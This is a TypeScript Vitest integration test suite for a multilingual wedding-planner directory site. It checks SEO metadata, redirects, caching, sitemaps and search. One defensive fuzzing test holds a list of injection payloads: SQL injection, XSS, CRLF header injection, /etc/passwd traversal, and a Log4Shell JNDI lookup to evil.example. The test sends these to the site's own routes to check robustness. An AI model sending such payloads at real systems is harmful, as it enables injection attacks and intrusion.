import { setTimeout as pause } from 'node:timers/promises'
import { countries } from '@bouquet/domain/countries'
import type { ProviderId } from '@bouquet/domain/ids'
import { languages } from '@bouquet/domain/languages'
import { storeFirstLegalTexts } from '@bouquet/features/content/legal/server/store-first-legal-texts.ts'
import { createProvider, createVenue } from '@bouquet/server/database/testing/factories.ts'
import { startTestServer, type TestServer } from '@bouquet/server/testing/test-server.ts'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { createPlaces } from './testing/gazetteer-fixtures.ts'

let server: TestServer
let provider: { id: ProviderId; slug: string }
beforeAll(async () => {
  server = await startTestServer({ HOME_PAGE: 'directory' })
  await createPlaces(server.db)
  await storeFirstLegalTexts(server.db, new Date())
  provider = await createProvider(server.db, { company_name: 'Atelier Pivoine', slug: 'atelier-pivoine-annecy' })
  await createProvider(server.db, { company_name: 'Maison Alba' })
  await createProvider(server.db, { company_name: 'Blanc Sapin' })
})
afterAll(() => server.close())

const read = async (url: string, headers: Record<string, string> = {}) => {
  await server.updatesHeard()
  return server.app.inject({ url, headers: { host: 'fr.localhost', ...headers } })
}
const originOf = (country: (typeof countries)[number]) => server.services.config.origins[country]
const dataOf = (html: string): Record<string, unknown>[] =>
  [...html.matchAll(/<script type="application\/ld\+json">(.*?)<\/script>/g)].map(([, text]) => JSON.parse(text ?? ''))

const alternatesOf = (html: string) =>
  [...html.matchAll(/<link rel="alternate" hrefLang="([^"]+)" href="([^"]+)"/g)].map(([, language, href]) => [
    language,
    href,
  ])
const canonicalOf = (html: string) => /<link rel="canonical" href="([^"]+)"/.exec(html)?.[1]

test('the front pages of all hosts name one another in all languages, each its own canonical at the root', async () => {
  const pages = await Promise.all(
    countries.map(async (country) => (await read('/', { host: new URL(originOf(country)).host })).body),
  )
  for (const [place, country] of countries.entries())
    expect(canonicalOf(pages[place] ?? '')).toBe(`${originOf(country)}/`)
  const [first, ...others] = pages.map(alternatesOf)
  expect(first).toHaveLength(countries.length * languages.length)
  expect(first).toContainEqual(['fr-BE', `${originOf('BE')}/fr`])
  expect(first).toContainEqual(['nl-BE', `${originOf('BE')}/`])
  for (const alternates of others) expect(alternates).toEqual(first)
})

test('a list says to search engines where it is and whom it lists, in the types of schema.org', async () => {
  const { body } = await read('/wedding-planners/haute-savoie/annecy')
  const [crumbs, list] = dataOf(body)
  expect(crumbs).toMatchObject({
    '@type': 'BreadcrumbList',
    itemListElement: [
      { '@type': 'ListItem', position: 1, item: `${originOf('FR')}/` },
      {
        '@type': 'ListItem',
        position: 2,
        item: `${originOf('FR')}/wedding-planners/haute-savoie`,
        name: 'Haute-Savoie',
      },
      {
        '@type': 'ListItem',
        position: 3,
        item: `${originOf('FR')}/wedding-planners/haute-savoie/annecy`,
        name: 'Annecy',
      },
    ],
  })
  expect(list).toMatchObject({ '@context': 'https://schema.org', '@type': 'ItemList', numberOfItems: 3 })
  const items = list?.itemListElement as { position: number; url: string }[]
  expect(items.map(({ position }) => position)).toEqual([1, 2, 3])
  expect(items.map(({ url }) => url)).toContain(`${originOf('FR')}/wedding-planner/${provider.slug}`)
})

test('an unknown place answers 404 with what is spelled like it', async () => {
  const department = await read('/wedding-planners/haute-savoi')
  expect(department.statusCode).toBe(404)
  expect(department.body).toContain('href="/wedding-planners/haute-savoie"')
  const city = await read('/wedding-planners/haute-savoie/anecy')
  expect(city.statusCode).toBe(404)
  expect(city.body).toContain('href="/wedding-planners/haute-savoie/annecy"')
  const nowhere = await read('/wedding-planners/nulle-part')
  expect(nowhere.body).not.toContain('Pages proches')
  expect(nowhere.body).not.toMatch(/href="\/wedding-planners\/(?!nulle-part)/)
})

test.each([
  ['/wedding-planners', '/'],
  ['/en/wedding-planners', '/en'],
  ['/fr', '/'],
  ['/fr/wedding-planners/haute-savoie', '/wedding-planners/haute-savoie'],
  ['/Wedding-Planners/Haute-Savoie/ANNECY', '/wedding-planners/haute-savoie/annecy'],
  ['/wedding-planners/haute-savoi%C3%A8/', '/wedding-planners/haute-savoie'],
  ['/wedding-planners/paris/paris?km=10', '/wedding-planners/paris?km=10'],
  ['/EN/wedding-planners/paris/paris/', '/en/wedding-planners/paris/paris'],
  ['/wedding-planner/atelier-pivoine-annecy/', '/wedding-planner/atelier-pivoine-annecy'],
  ['/annuaire/atelier-pivoine-annecy', '/wedding-planner/atelier-pivoine-annecy'],
  ['/annuaire/haute-savoie/annecy/atelier-pivoine-annecy', '/wedding-planner/atelier-pivoine-annecy'],
  ['/Guide/List/', '/guide/list'],
  ['/cgv', '/cgv/'],
  ['/Login/', '/login'],
  ['/annuaire', '/wedding-planners'],
  ['/annuaire/haute-savoie/annecy/2', '/wedding-planners/haute-savoie/annecy/2'],
  ['/annuaire/wedding-venues/haute-savoie', '/wedding-venues/haute-savoie'],
  ['/wedding-planners/haute-savoie/?service=FULL_PLANNING', '/wedding-planners/haute-savoie?service=FULL_PLANNING'],
])('%s has moved to %s for good', async (url, to) => {
  const { statusCode, headers } = await read(url)
  expect({ statusCode, to: headers.location }).toEqual({ statusCode: 301, to })
})

test('the former address of a venue leads to its page only while the page is public', async () => {
  const owner = await createProvider(server.db, { is_planner: false })
  const slug = 'domaine-des-tilleuls'
  await createVenue(server.db, owner.id, { slug, is_published: true, is_validated: true })
  expect((await read(`/annuaire/${slug}`)).headers.location).toBe(`/wedding-venue/${slug}`)
  await server.db.updateTable('providers').set({ siret_status: 'inactive' }).where('id', '=', owner.id).execute()
  expect((await read(`/annuaire/${slug}`)).headers.location).toBe(`/wedding-planners/${slug}`)
  expect((await read(`/wedding-planners/${slug}`)).statusCode).toBe(404)
})

test('a host that is none of ours gets an answer that says so', async () => {
  for (const url of [
    '/wedding-planners',
    '/robots.txt',
    '/sitemap.xml',
    '/search?q=annecy',
    '/api/directory/suggestions?q=annecy',
  ])
    expect((await read(url, { host: 'elsewhere.example' })).statusCode, url).toBe(421)
})

// From the Big List of Naughty Strings (github.com/minimaxir/big-list-of-naughty-strings, MIT) and OWASP's testing guide.
const naughty = [
  `1;DROP TABLE users`,
  `1' OR 1=1 -- 1`,
  `' OR '1'='1`,
  `'; EXEC sp_MSForEachTable 'DROP TABLE ?'; --`,
  `%`,
  `_`,
  `<script>alert(0)</script>`,
  `"><img src=x onerror=alert(1)>`,
  `\u0000`,
  `\r\nSet-Cookie: taken=1`,
  `%0d%0aLocation:%20https://evil.example`,
  `../../../../etc/passwd`,
  `$\{jndi:ldap://evil.example/a}`,
  `{{7*7}}`,
  `田中さんにあげて下さい`,
  `𝐓𝐡𝐞 ̡͓̞ͅI̗̘̦͝n͇͇͙v̮̫ok̲̫̙͈i̖͙̭̹̠̞n̡̻̮̣̺g`,
  `-9223372036854775809`,
  `1e309`,
  'a'.repeat(3000),
]

test.each(naughty)('%j in a path, a filter or a search does no harm', async (text) => {
  const sent = encodeURIComponent(text)
  const urls = [
    `/wedding-planners/${sent}`,
    `/wedding-planners/haute-savoie/${sent}`,
    `/wedding-planners/haute-savoie/annecy/${sent}`,
    ...['service', 'language', 'price', 'rating', 'km', 'sort', 'page'].map(
      (name) => `/wedding-planners/haute-savoie/annecy?${name}=${sent}`,
    ),
    `/wedding-venues/haute-savoie?type=${sent}&feature=${sent}&feature=${sent}`,
    `/search?q=${sent}&kind=${sent}`,
    `/api/directory/suggestions?q=${sent}`,
    `/annuaire/${sent}`,
    `/social/wedding-planners/${sent}.png`,
    `/sitemaps/${sent}.xml`,
  ]
  for (const url of urls) {
    const { statusCode, headers, body } = await read(url)
    expect(statusCode, url).toBeLessThan(500)
    expect(headers['set-cookie']).toBeUndefined()
    expect(body).not.toMatch(/<script>alert|<img src=x/)
    if (headers.location) expect(String(headers.location)).toMatch(/^\/[\w-]/)
  }
})

test('a page that has not changed is not sent again', async () => {
  const first = await read('/wedding-planners/haute-savoie')
  expect(first.headers['cache-control']).toBe('public, max-age=0, s-maxage=60, stale-while-revalidate=600')
  const again = await read('/wedding-planners/haute-savoie', { 'if-none-match': String(first.headers.etag) })
  expect({ status: again.statusCode, body: again.body }).toEqual({ status: 304, body: '' })
})

test('a page in another language has an address of its own, its own canonical, and names the others; its links stay in it', async () => {
  const { headers, body } = await read('/de/wedding-planners/haute-savoie')
  expect(headers['content-language']).toBe('de')
  expect(canonicalOf(body)).toBe(`${originOf('FR')}/de/wedding-planners/haute-savoie`)
  expect(alternatesOf(body)).toContainEqual(['fr', `${originOf('FR')}/wedding-planners/haute-savoie`])
  expect(alternatesOf(body)).toContainEqual(['de', `${originOf('FR')}/de/wedding-planners/haute-savoie`])
  expect(alternatesOf((await read('/wedding-planners/haute-savoie')).body)).toEqual(alternatesOf(body))
  expect(body).toContain(`href="/de/wedding-planner/${provider.slug}"`)
  expect(body).toContain('action="/de/search"')
  expect(body).toContain('data-language="fr" href="/wedding-planners/haute-savoie"')
  const links = [...body.matchAll(/ (?:href|action)="(\/[^"]*)"/g)].map(([, path]) => path ?? '')
  const pages = links.filter((path) => /^\/(wedding|guide|project|search|favourites|cgv|privacy|portfolio)/.test(path))
  expect(pages).toEqual(['/wedding-planners/haute-savoie'])
})

test('no cookie changes a page that is the same for everybody; the chosen language leads from the front page alone', async () => {
  const chosen = { cookie: 'locale=de' }
  const list = await read('/wedding-planners/haute-savoie', chosen)
  expect(list.headers).toMatchObject({
    'content-language': 'fr',
    'cache-control': 'public, max-age=0, s-maxage=60, stale-while-revalidate=600',
    vary: 'Accept-Encoding',
  })
  const front = await read('/', chosen)
  expect([front.statusCode, front.headers.location]).toEqual([303, '/de'])
  expect((await read('/de', { cookie: 'locale=it' })).statusCode).toBe(200)
  const shared = await read('/')
  expect(shared.headers).toMatchObject({ 'cache-control': 'public, no-cache', vary: 'Accept-Encoding' })
})

test('both languages of Belgium are indexable, and in the sitemap', async () => {
  const host = { host: new URL(originOf('BE')).host }
  for (const [path, language] of [
    ['/', 'nl'],
    ['/fr', 'fr'],
  ] as const) {
    const { body, headers } = await read(path, host)
    expect(headers['content-language']).toBe(language)
    expect(body).not.toContain('name="robots"')
    expect(canonicalOf(body)).toBe(`${originOf('BE')}${path}`)
  }
  const { body } = await read('/sitemaps/pages.xml', host)
  for (const path of ['/', '/fr', '/guide/list', '/fr/guide/list'])
    expect(body).toContain(`<loc>${originOf('BE')}${path}</loc>`)
})

test('an address without a page is a page for visitors, with three cards and the search', async () => {
  for (const url of ['/nowhere/at-all', '/wedding-planner/nobody', '/guide/nothing', '/en/wedding-planners/nowhere']) {
    const { statusCode, body } = await read(url, { accept: 'text/html' })
    expect(statusCode, url).toBe(404)
    expect([...body.matchAll(/<h3><a href="[^"]*\/wedding-planner\/[^"]+">/g)], url).toHaveLength(3)
    expect(body, url).toContain('data-suggestions="planner"')
    expect(body, url).toContain('<meta name="robots" content="noindex"/>')
  }
  expect((await read('/api/nothing', { accept: 'text/html' })).json().code).toBe('not_found')
  expect((await read('/admin/nothing', { accept: 'text/html' })).body).toContain('data-app="backoffice"')
})

test('the pages of regions list who is in their departments, in their language, and are in the sitemap', async () => {
  const { body, statusCode } = await read('/en/wedding-planners/region/auvergne-rhone-alpes')
  expect(statusCode).toBe(200)
  expect(body).toContain('Auvergne-Rhône-Alpes</i>')
  expect(body).toContain(`href="/en/wedding-planner/${provider.slug}"`)
  expect(body).toContain('href="/en/wedding-planners/haute-savoie"')
  expect(body).not.toContain('name="robots"')
  const german = (await read('/de/wedding-planners/region/alpes')).body
  expect(german).toContain('Französische Alpen</i>')
  expect(german).toContain('<title>Französische Alpen: 3 Hochzeitsplaner')
  expect(german).toContain('Häufigster Einstiegspreis: 1.000\u00a0€ bis 2.000\u00a0€. Gebiet: Haute-Savoie.')
  expect((await read('/wedding-planners/region/alpes?service=FULL_PLANNING&sort=price')).body).toContain(
    'Atelier Pivoine',
  )
  expect((await read('/wedding-planners/region/alpes?service=WEDDING_DESIGN')).body).not.toContain('Atelier Pivoine')
  expect((await read('/wedding-planners/haute-savoie')).body).toContain('href="/wedding-planners/region/alpes"')
  expect((await read('/')).body).toContain('href="/wedding-planners/region/alpes"')
  expect((await read('/wedding-planners/region/atlantis')).statusCode).toBe(404)
  expect((await read('/sitemaps/regions.xml')).body).toContain('/wedding-planners/region/alpes</loc><lastmod>')
})

test('a hidden price, Premium and a review show on the cached page within a second', async () => {
  const page = async () => (await read('/wedding-planners/haute-savoie')).body
  await page()
  await pause(200)
  expect(await page()).toContain('1\u00a0200\u00a0€')
  await server.db.updateTable('provider_services').set({ is_budget_visible: false }).execute()
  await server.db.updateTable('providers').set({ premium_status: 'active' }).where('id', '=', provider.id).execute()
  await server.db
    .updateTable('providers')
    .set({ review_count: 1, review_average: 4.5 })
    .where('id', '=', provider.id)
    .execute()
  await expect.poll(page).not.toContain('1\u00a0200\u00a0€')
  await expect.poll(page).toContain('id="premium"')
  await expect.poll(page).toContain('4,5 sur 5')
})

test('a search leads to the place that it names, narrowed as chosen, else it says what comes close', async () => {
  const named = await read('/search?q=ANNECY&kind=planner&service=FULL_PLANNING')
  expect([named.statusCode, named.headers.location]).toEqual([
    303,
    '/wedding-planners/haute-savoie/annecy?service=FULL_PLANNING',
  ])
  const misspelt = await read('/search?q=pivione')
  expect([misspelt.statusCode, misspelt.headers.location]).toEqual([303, `/wedding-planner/${provider.slug}`])
  const several = await read('/search?q=ann')
  expect(several.statusCode).toBe(200)
  expect(several.body).toContain('href="/wedding-planners/haute-savoie/annemasse"')
  expect((await read('/search?q=%20')).headers.location).toBe('/wedding-planners')
  expect((await read('/search?service=FULL_PLANNING')).headers.location).toBe('/wedding-planners?service=FULL_PLANNING')
})

test.each([
  ['bretagne', '/wedding-planners/region/bretagne'],
  ['74 000', '/wedding-planners/haute-savoie/annecy'],
  ['wedding planner 75015', '/wedding-planners/paris'],
  ['Provenza', '/wedding-planners/region/provence'],
  ['french alps', '/wedding-planners/region/alpes'],
  ['wedding planner annecy', '/wedding-planners/haute-savoie/annecy'],
  ['mariage annecy 12 juin 2031', '/wedding-planners/haute-savoie/annecy?date=2031-06-12'],
  ['salle de mariage à Annecy', '/wedding-venues/haute-savoie/annecy'],
  ['freie Trauung in Annecy', '/wedding-planners/haute-savoie/annecy?service=SECULAR_CEREMONY'],
  ['coordination jour J', '/wedding-planners?service=DAY_COORDINATION'],
  ['amberieu', '/wedding-planners/ain/amberieu-en-bugey'],
])('“%s” leads to %s', async (typed, to) => {
  const { statusCode, headers } = await read(`/search?q=${encodeURIComponent(typed)}`)
  expect([statusCode, headers.location]).toEqual([303, to])
})

test('suggestions know accents and typing errors', async () => {
  const suggest = async (q: string) =>
    (await read(`/api/directory/suggestions?q=${encodeURIComponent(q)}`))
      .json<{ name: string }[]>()
      .map(({ name }) => name)
  expect(await suggest('hauté sav')).toEqual(['Haute-Savoie'])
  expect(await suggest('anecy')).toEqual(['Annecy'])
  expect(await suggest('MAISON al')).toEqual(['Maison Alba'])
  expect(await suggest('pivione')).toEqual(['Atelier Pivoine'])
  expect(await suggest('atleier pivoin')).toEqual(['Atelier Pivoine'])
  expect(await suggest('xyzzyx')).toEqual([])
})

test('the sitemap leads to pages that are there, and robots to the sitemap', async () => {
  const robots = await read('/robots.txt')
  expect(robots.body).toContain(`Sitemap: ${originOf('FR')}/sitemap.xml`)
  const locations = async (url: string) =>
    [...(await read(url)).body.matchAll(/<loc>([^<]+)<\/loc>/g)].map(([, address]) => new URL(address ?? '').pathname)
  const pages = (await Promise.all((await locations('/sitemap.xml')).map(locations))).flat()
  expect(pages).toContain('/wedding-planners/haute-savoie/annecy')
  expect(pages).toContain(`/wedding-planner/${provider.slug}`)
  expect((await read('/sitemaps/entries-all.xml')).body).toMatch(/<loc>[^<]+<\/loc><lastmod>\d{4}-\d\d-\d\d<\/lastmod>/)
  for (const page of pages) expect((await read(page)).statusCode, page).toBe(200)
})

test('a list has a picture of its own for those who are sent it', async () => {
  const { body } = await read('/wedding-planners/haute-savoie')
  const address = /property="og:image" content="([^"]+)"/.exec(body)?.[1] ?? ''
  const picture = await read(new URL(address).pathname)
  expect([picture.statusCode, picture.headers['content-type']]).toEqual([200, 'image/png'])
  expect((await read('/social/wedding-planners/nowhere.png')).statusCode).toBe(404)
})

test('an operator may make the directory the front page', async () => {
  const { statusCode, body } = await read('/')
  expect(statusCode).toBe(200)
  expect(body).toContain('La bonne personne pour')
  expect(canonicalOf(body)).toBe(`${originOf('FR')}/`)
  expect(body).not.toContain('name="robots"')
  expect(body).not.toContain('href="/wedding-planners"')
})

test('the front page shows three of Premium and every place, and leads to the whole list in its usual order', async () => {
  for (const name of ['Le Fil Rouge', 'Les Jours Clairs', 'Grand Jour'])
    await createProvider(server.db, { company_name: name, premium_status: 'active' })
  const cardsOf = (html: string) => [...html.matchAll(/<h3><a href="[^"]*\/wedding-planner\/[^"]+">/g)]
  await expect.poll(async () => cardsOf((await read('/wedding-planners?sort=recommended')).body)).toHaveLength(6)
  const front = (await read('/')).body
  expect(cardsOf(front)).toHaveLength(3)
  for (const place of ['region/alpes', 'region/auvergne-rhone-alpes', 'haute-savoie'])
    expect(front).toContain(`href="/wedding-planners/${place}"`)
  expect(front).toContain('href="/wedding-planners?sort=recommended"')
  expect((await read('/?sort=recommended')).headers.location).toBe('/wedding-planners?sort=recommended')
  expect(canonicalOf((await read('/wedding-planners?sort=recommended')).body)).toBe(`${originOf('FR')}/`)
})
